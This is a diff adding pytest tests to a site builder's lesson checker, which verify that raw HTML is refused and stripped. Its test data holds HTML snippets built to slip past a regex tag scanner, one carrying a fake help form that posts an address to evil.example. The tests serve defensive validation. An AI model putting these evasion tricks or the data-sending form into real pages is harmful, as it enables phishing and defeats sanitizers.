@@ -10,6 +10,7 @@ from __future__ import annotations
 
 import shutil
 import subprocess
+from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
@@ -33,6 +34,18 @@ def downgrade(root: Path, *codes: str) -> None:
         config.read_text() + "checks:\n" + "".join(f"  {c}: warning\n" for c in codes),
         encoding="utf-8",
     )
+
+
+def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
+    """Every element of a built page as a browser would read its tags."""
+    found: list[tuple[str, dict[str, str | None]]] = []
+
+    class Reader(HTMLParser):
+        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+            found.append((tag, dict(attrs)))
+
+    Reader().feed(html)
+    return found
 
 
 def pdf_text(pdf: bytes) -> str:
@@ -84,3 +97,42 @@ def test_invisible_characters_written_as_yaml_escapes_are_refused(
     code, out = check(project, capsys)
     assert code == 1
     assert f"{LESSON}:{line}: invisible-character" in out, out
+
+
+# A fake help box with an address form, hidden from a scanner that reads tags with a
+# regular expression: a quoted `<` or `>`, or a backslash that makes a backtick text.
+FAKE_HELP = [
+    (
+        "quoted less-than",
+        '<div title="<" class="sp-help" role="note">Call 555</div>',
+    ),
+    ("quoted greater-than", '<span title=">" class="sp-help" hidden>Call 555</span>'),
+    (
+        "escaped backtick",
+        '\\` <div class="sp-help"><form action="https://evil.example"><input name="address">'
+        "<button>Send</button></form></div> `",
+    ),
+]
+
+
+@pytest.mark.parametrize("html", [c[1] for c in FAKE_HELP], ids=[c[0] for c in FAKE_HELP])
+def test_hidden_raw_html_is_refused(project: Path, capsys, html: str) -> None:
+    edit(project, LESSON, "A surprise is fun.", f"{html}\n\nA surprise is fun.")
+    code, out = check(project, capsys)
+    assert code == 1
+    assert f"{LESSON}:25: unsafe-html" in out, out
+
+
+def test_hidden_raw_html_does_not_reach_the_page(project: Path) -> None:
+    from signpost.build import build_site
+
+    body = "\n\n".join(c[1] for c in FAKE_HELP)
+    edit(project, LESSON, "A surprise is fun.", f"{body}\n\nA surprise is fun.")
+    downgrade(project, "unsafe-html")
+    assert build_site(project, handouts=False, languages=["en"]) == 0
+    page = (project / "site/en/lessons/spotting-secrets/index.html").read_text(encoding="utf-8")
+    article = page.split('<article class="md-content__inner', 1)[1].split("</article>")[0]
+    tags = elements(article)
+    assert [t for t, a in tags if a.get("class") == "sp-help"] == ["aside"]  # the real one
+    assert not [t for t, _ in tags if t in ("form", "input", "button")]
+    assert not [t for t, a in tags if t in ("div", "span") and {"hidden", "role"} & set(a)]
